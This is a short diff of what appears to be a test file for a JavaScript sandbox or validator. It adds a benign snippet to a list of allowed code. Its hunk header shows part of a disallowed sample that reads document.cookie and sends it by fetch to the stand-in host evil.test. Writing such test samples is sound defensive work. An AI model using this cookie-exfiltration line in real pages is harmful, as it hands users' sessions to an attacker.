@@ -171,6 +171,7 @@ document.title=document.cookie; fetch('https://evil.test/?'+encodeURIComponent(d
 """
 
 _FINE = r"""
+const last = function () { return this[this.length - 1]; }; [last.call([1, 2])]
 const { href } = location; [href, String(location), `${location}`]
 const here = location; new URL('/a', here).href
 const { userAgent } = navigator; userAgent + navigator.language
